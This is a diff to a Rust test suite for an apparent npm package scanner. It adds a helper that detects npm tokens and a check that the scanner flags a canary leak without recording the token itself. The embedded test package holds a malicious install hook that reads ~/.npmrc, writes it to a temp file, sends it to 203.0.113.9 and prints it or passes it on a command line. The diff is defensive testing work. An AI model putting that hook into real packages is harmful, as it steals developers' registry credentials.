@@ -81,6 +81,16 @@ fn intake(dir: &Path, package: &str, ecosystem: &str, archive: &Path) -> serde_j
     })
 }
 
+/// An npm token (`npm_` and 36 letters or digits) in `text`, if any.
+fn regex_lite_token(text: &str) -> Option<String> {
+    text.match_indices("npm_").find_map(|(i, _)| {
+        let t = text.get(i + 4..i + 40)?;
+        t.bytes()
+            .all(|b| b.is_ascii_alphanumeric())
+            .then(|| format!("npm_{t}"))
+    })
+}
+
 /// The dynamic findings of a decision as (rule, severity, message).
 fn dynamic_findings(d: &serde_json::Value) -> Vec<(String, String, String)> {
     d["findings"]
@@ -126,7 +136,11 @@ let token = '';
 try { token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
 fs.writeFileSync(path.join(os.tmpdir(), 'stage'), token);
 const s = net.connect(8443, '203.0.113.9', () => s.end(token));
-s.on('error', () => process.exit(0));
+s.on('error', () => {
+  console.log(token);
+  require('child_process').spawnSync('/bin/echo', [token.trim()]);
+  process.exit(0);
+});
 "#;
     let archive = tgz(
         d,
@@ -161,9 +175,20 @@ s.on('error', () => process.exit(0));
             .iter()
             .any(|r| r["rule"] == "dynamic-canary-read")
     );
-    // a canary value never appears in the decision
+    // the hook printed the token and passed it on a command line: the decision keeps the
+    // fact, not the value
+    let leak = deny
+        .iter()
+        .find(|(r, _)| r == "dynamic-canary-leak")
+        .unwrap_or_else(|| panic!("{deny:#?}"));
+    assert!(leak.1.contains("~/.npmrc"), "{}", leak.1);
     let text = serde_json::to_string(&dec).unwrap();
-    assert!(!text.contains("npm_") || !text.contains("_authToken"));
+    assert!(text.contains("<canary ~/.npmrc>"), "{text}");
+    let token = regex_lite_token(&text);
+    assert!(
+        token.is_none(),
+        "a canary value is in the decision: {token:?}"
+    );
 }
 
 #[test]
